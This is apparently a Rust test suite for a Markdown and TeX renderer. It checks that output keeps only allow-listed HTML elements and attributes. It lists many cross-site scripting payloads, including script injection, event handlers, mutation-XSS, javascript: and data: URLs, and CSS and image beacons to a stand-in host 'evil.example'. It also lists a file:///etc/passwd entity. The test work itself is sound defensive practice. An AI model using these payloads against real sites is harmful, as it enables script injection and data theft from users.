//! Hostile Markdown: whatever goes in, only listed elements and attributes come out.

use proptest::prelude::*;
use render::{Citation, MATH_CLASSES, Stream, highlight, render, render_with_citations};
use scraper::{Html, Node};

/// Element, and the attributes it may have besides `class`, `dir`, `displaystyle` and `scriptlevel`.
const ALLOWED: &[(&str, &[&str])] = &[
    ("a", &["href", "rel", "title", "data-external"]),
    ("b", &[]),
    ("blockquote", &[]),
    // Elements that the HTML parser itself puts around a fragment.
    ("html", &[]),
    ("body", &[]),
    ("br", &[]),
    ("code", &[]),
    ("del", &[]),
    ("div", &["data-footnote"]),
    ("em", &[]),
    ("h1", &[]),
    ("h2", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("hr", &[]),
    ("i", &[]),
    ("input", &["type", "disabled", "checked"]),
    ("kbd", &[]),
    ("small", &[]),
    ("ruby", &[]),
    ("rt", &[]),
    ("rp", &[]),
    ("li", &[]),
    ("mark", &[]),
    ("math", &["display"]),
    ("mfrac", &["linethickness"]),
    ("mi", &["mathvariant"]),
    ("mn", &[]),
    (
        "mo",
        &[
            "largeop",
            "maxsize",
            "minsize",
            "movablelimits",
            "stretchy",
            "symmetric",
        ],
    ),
    ("mover", &[]),
    ("mroot", &[]),
    ("mrow", &[]),
    ("mspace", &["depth", "height", "width"]),
    ("msqrt", &[]),
    ("msub", &[]),
    ("msubsup", &[]),
    ("msup", &[]),
    ("mtable", &[]),
    ("mtd", &[]),
    ("mtext", &[]),
    ("mtr", &[]),
    ("munder", &[]),
    ("munderover", &[]),
    ("ol", &["start"]),
    ("p", &[]),
    ("pre", &["data-language"]),
    ("span", &["data-host", "data-url", "title"]),
    ("strong", &[]),
    ("sub", &[]),
    ("sup", &["data-citation", "data-footnote"]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &[]),
    ("th", &[]),
    ("thead", &[]),
    ("tr", &[]),
    ("u", &[]),
    ("ul", &[]),
];

/// Parses as a browser does and checks every node.
fn assert_harmless(html: &str, source: &str) {
    let fragment = Html::parse_fragment(html);
    for node in fragment.tree.nodes() {
        let Node::Element(element) = node.value() else {
            let is_inert = matches!(
                node.value(),
                Node::Text(_) | Node::Fragment | Node::Document
            );
            assert!(is_inert, "{:?}\n{source}\n{html}", node.value());
            continue;
        };
        let Some((name, attributes)) = ALLOWED.iter().find(|(name, _)| *name == element.name())
        else {
            panic!("<{}> survived\n{source}\n{html}", element.name());
        };
        for (attribute, value) in element.attrs() {
            assert!(
                ["class", "dir", "displaystyle", "scriptlevel"].contains(&attribute)
                    || attributes.contains(&attribute),
                "<{name} {attribute}> survived\n{source}\n{html}"
            );
            match attribute {
                "href" => assert!(
                    ["https://", "http://", "mailto:"]
                        .iter()
                        .any(|scheme| value.starts_with(scheme)),
                    "href={value}\n{source}"
                ),
                "data-url" => assert!(
                    value.starts_with("https://") || value.starts_with("http://"),
                    "data-url={value}\n{source}"
                ),
                "class" if name.starts_with('m') && *name != "mark" => {
                    let known = MATH_CLASSES.iter().filter(|(tag, _)| tag == name);
                    for class in value.split_whitespace() {
                        assert!(
                            known.clone().any(|(_, classes)| classes.contains(&class)),
                            "<{name} class={class}>\n{source}"
                        );
                    }
                }
                "type" => assert_eq!(value, "checkbox"),
                "rel" => assert_eq!(value, "noopener noreferrer nofollow"),
                _ => {}
            }
        }
        if element.name() == "a" {
            assert!(element.attr("href").is_none() || element.attr("data-external").is_some());
            assert!(element.attr("rel").is_some());
        }
        if element.name() == "input" {
            assert!(element.attr("disabled").is_some() && element.attr("type").is_some());
        }
    }
    // Mutation XSS: parsing the browser's serialisation must give the same again.
    let once = fragment.root_element().inner_html();
    let twice = Html::parse_fragment(&once).root_element().inner_html();
    assert_eq!(once, twice, "{source}");
}

fn check(source: &str) {
    for block in render(source) {
        assert_harmless(&block.to_html(), source);
    }
    let everywhere: Vec<_> = (0..source.len().min(64))
        .map(|end| Citation {
            range: 0..end,
            number: 7,
        })
        .collect();
    for block in render_with_citations(source, &everywhere) {
        assert_harmless(&block.to_html(), source);
    }
    let mut stream = Stream::new();
    let characters: Vec<_> = source.chars().collect();
    for piece in characters.chunks(9) {
        for block in stream.push(&String::from_iter(piece)).blocks {
            assert_harmless(&block.to_html(), source);
        }
    }
    for block in stream.finish().blocks {
        assert_harmless(&block.to_html(), source);
    }
}

/// Raw HTML that would run or fetch something if it were interpreted.
const RAW: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset=\"https://evil.example/pixel.png 2x\">",
    "<picture><source srcset=https://evil.example/p></picture>",
    "<image href=https://evil.example/p onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=https://evil.example/x.svg#a /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<p style='background-image:\\75rl(https://evil.example)'>x</p>",
    "<div style=\"position:fixed;inset:0\">cover</div>",
    "<body onload=alert(1)>",
    "<body background=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x</table>",
    "<video src=https://evil.example/x autoplay onplay=alert(1)></video>",
    "<video poster=https://evil.example/x></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<track src=https://evil.example/x>",
    "<input type=image src=https://evil.example/x>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=q><button>x</button></form>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"https://ok.example\" onclick=alert(1)>x</a>",
    "<a href=https://ok.example target=_blank ping=https://evil.example>x</a>",
    "<area href=javascript:alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<b/onmouseover=alert(1)>x</b>",
    "<b\tid=location>x</b>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- x -->\n<img src=x onerror=alert(1)>\n<!-- y -->",
    "<a <b>c</b onmouseover=alert(1)>",
    "<<img src=x onerror=alert(1)>>",
    "<\u{0}script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
];

/// TeX that tries to make a link, a style, a file access, markup, or excessive output.
const TEX: &[&str] = &[
    r"\href{javascript:alert(1)}{x}",
    r"\url{javascript:alert(1)}",
    r"\includegraphics{https://evil.example/x.png}",
    r"\style{background:url(https://evil.example/x)}{x}",
    r"\class{composer}{x}",
    r"\cssId{composer}{x}",
    r"\htmlClass{composer}{x} \htmlId{a}{x} \htmlStyle{position:fixed}{x} \htmlData{a=b}{x}",
    r"\toggle{x}{y}\endtoggle \mathtip{x}{y} \texttip{x}{y} \require{action}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\text{</mtext></math><script>alert(1)</script>}",
    r"\mathrm{</math><img src=x onerror=alert(1)>}",
    r"\operatorname{<script>alert(1)</script>}",
    r"\text{<annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml>}",
    r"\text{&lt;script&gt;alert(1)&lt;/script&gt;} &#60;b&#62;",
    r"\unicode{x3c}script\unicode{x3e}",
    r"\begin{array}{c|c} <b> & \text{<table><mglyph><style>} \\ \hline 1 & 2 \end{array}",
    r#"\begin{array}{"onload=alert(1)} x \end{array}"#,
    r#"\color{"><img src=x onerror=alert(1)>}{x} \textcolor{red;background:url(x)}{y}"#,
    r#"\begin{<img src=x onerror=alert(1)>} x \end{<img src=x onerror=alert(1)>}"#,
    r"\hspace{99999em} \Space{0em}{99999em}{99999em} \kern-99999em \rule{99999em}{99999em}",
    r"\def\x{\x\x}\x \newcommand{\y}{\y\y}\y \let\z=\y",
    r"\label{<script>} \tag{<script>alert(1)</script>} \boxed{<img src=x onerror=alert(1)>}",
    r"\left< \left( \left[ \right \middle",
    "\\frac{\\frac{\\frac{1}{2}",
    "x^^^^__{{{",
    "\u{0}\u{202e}\\text{\u{202e}}",
];

/// URLs that must not become a link's target.
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "jAvAsCrIpT:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\u{0}script:alert(1)",
    "\u{1}javascript:alert(1)",
    "\u{a0}javascript:alert(1)",
    "\u{200b}javascript:alert(1)",
    "javascript%3Aalert(1)",
    "%6aavascript:alert(1)",
    "\\javascript:alert(1)",
    "javascript\\:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "//evil.example/x",
    "/x",
    "#x",
    "ipc://localhost/x",
    "tauri://localhost/",
    "asset://localhost/x",
    "http://ipc.localhost.invalid:x/",
    "blob:https://example.com/1",
    "about:blank",
    "ms-settings:",
    "smb://evil.example/x",
    "tel:+1",
    "https:",
    "https://",
    "http:///",
];

#[test]
fn raw_html_of_every_kind_is_harmless() {
    for raw in RAW {
        check(raw);
        for wrapped in [
            format!("text {raw} text"),
            format!("> - {raw}\n"),
            format!("| a |\n|---|\n| {raw} |\n"),
            format!("# {raw}"),
            format!("**{raw}**"),
            format!("```html\n{raw}\n```"),
            format!("```{raw}\nx\n```"),
            format!("`{raw}`"),
            format!("$${raw}$$"),
            format!("[{raw}](https://example.com \"{raw}\")"),
            format!("![{raw}](https://example.com/{raw} '{raw}')"),
            format!("x[^{raw}]\n\n[^{raw}]: {raw}\n"),
            format!("[{raw}]\n\n[{raw}]: https://example.com/{raw} \"{raw}\"\n"),
        ] {
            check(&wrapped);
        }
        assert_harmless(&highlight(raw, "html"), raw);
        assert_harmless(&highlight("x", raw), raw);
    }
}

#[test]
fn formulas_of_every_kind_are_harmless() {
    for tex in TEX.iter().chain(RAW) {
        for source in [
            format!("${tex}$"),
            format!("a ${tex}$ b"),
            format!("$$\n{tex}\n$$"),
            format!("\\({tex}\\)"),
            format!("\\[{tex}\\]"),
            format!("| a |\n|---|\n| ${tex}$ |\n"),
            format!("[${tex}$](https://example.com) ![${tex}$](https://example.com)"),
        ] {
            check(&source);
            let html: String = render(&source)
                .into_iter()
                .map(|block| block.to_html())
                .collect();
            assert!(!html.contains("99999em\""), "{html}");
        }
    }
}

#[test]
fn a_formula_nested_a_thousand_deep_is_shown_as_tex() {
    for (open, close) in [
        ("{", "}"),
        ("\\sqrt{", "}"),
        ("\\left(", "\\right)"),
        ("x^{", "}"),
    ] {
        let source = format!("$${}{}$$", open.repeat(900), close.repeat(900));
        check(&source);
    }
}

#[test]
fn no_address_but_web_and_mail_becomes_a_target() {
    for address in ADDRESSES {
        check(address);
        for source in [
            format!("[x]({address})"),
            format!("[x](<{address}>)"),
            format!("<{address}>"),
            format!("[x][a]\n\n[a]: {address}\n"),
            format!("[x][a]\n\n[a]: <{address}> \"t\"\n"),
            format!("[a]: {address}\n\n[a] [a][] [x][a]\n"),
            format!("![x]({address})"),
            format!("![x](<{address}>)"),
            format!("![x][a]\n\n[a]: {address}\n"),
            format!("[![x]({address})]({address})"),
        ] {
            check(&source);
            let html: String = render(&source)
                .into_iter()
                .map(|block| block.to_html())
                .collect();
            assert!(
                !html.contains("href=") && !html.contains("data-url="),
                "{source}\n{html}"
            );
        }
    }
}

#[test]
fn an_image_is_never_fetched_and_says_which_host_it_would_ask() {
    for source in [
        "![x](https://evil.example/leak?q=secret)",
        "![x](HTTPS://EVIL.example/leak)",
        "![x][a]\n\n[a]: https://evil.example/leak\n",
        "![a]\n\n[a]: https://evil.example/leak\n",
        "[![x](https://evil.example/leak)](https://evil.example/)",
        "![![x](https://other.example/leak)](https://evil.example/leak)",
    ] {
        check(source);
        let html: String = render(source)
            .into_iter()
            .map(|block| block.to_html())
            .collect();
        assert!(
            html.contains("class=\"remote-image\" data-host=\"evil.example\""),
            "{html}"
        );
        assert!(!html.contains("<img") && !html.contains(" src="), "{html}");
    }
}

#[test]
fn attributes_cannot_be_broken_out_of() {
    for source in [
        "[x](https://example.com/\"onmouseover=\"alert(1))",
        "[x](https://example.com/'onmouseover='alert(1))",
        "[x](https://example.com \"\\\" onmouseover=alert(1) x=\\\"\")",
        "![x](https://example.com/\"><script>alert(1)</script>)",
        "![\"><script>alert(1)</script>](https://example.com/x)",
        "```\"onmouseover=alert(1)\nx\n```",
        "```js\" onclick=\"alert(1)\nx\n```",
        "https://example.com/\"onmouseover=alert(1)",
        "<https://example.com/\"onmouseover=alert(1)>",
        "<mailto:x@example.com?subject=\"onmouseover=alert(1)>",
        "x[^\"onmouseover=alert(1)//]",
        "| a |\n|:-\"onmouseover=alert(1)-:|\n| b |",
    ] {
        check(source);
    }
}

proptest! {
    #[test]
    fn any_mixture_of_hostile_pieces_is_harmless(
        pieces in prop::collection::vec(
            prop_oneof![
                prop::sample::select(RAW).prop_map(str::to_owned),
                prop::sample::select(TEX).prop_map(str::to_owned),
                prop::sample::select(TEX).prop_map(|tex| format!("$${tex}$$")),
                prop::sample::select(ADDRESSES).prop_map(|a| format!("[x]({a} \"")),
                prop::sample::select(ADDRESSES).prop_map(|a| format!("![y][z]\n\n[z]: {a}\n")),
                prop::sample::select(&[
                    "\n", "\n\n", "```", "`", "**", "[", "](", ")", "![", "|", "|---|\n", "> ", "- ",
                    "<b>", "</b>", "<table>", "<sup>", "</p>", "$", "\\", "\"", "'", "<", ">", "&",
                ][..]).prop_map(str::to_owned),
                "\\PC{0,6}",
            ],
            1..8,
        ),
    ) {
        let source = pieces.concat();
        for block in render(&source) {
            assert_harmless(&block.to_html(), &source);
        }
        let mut stream = Stream::new();
        for piece in &pieces {
            for block in stream.push(piece).blocks {
                assert_harmless(&block.to_html(), &source);
            }
        }
    }
}
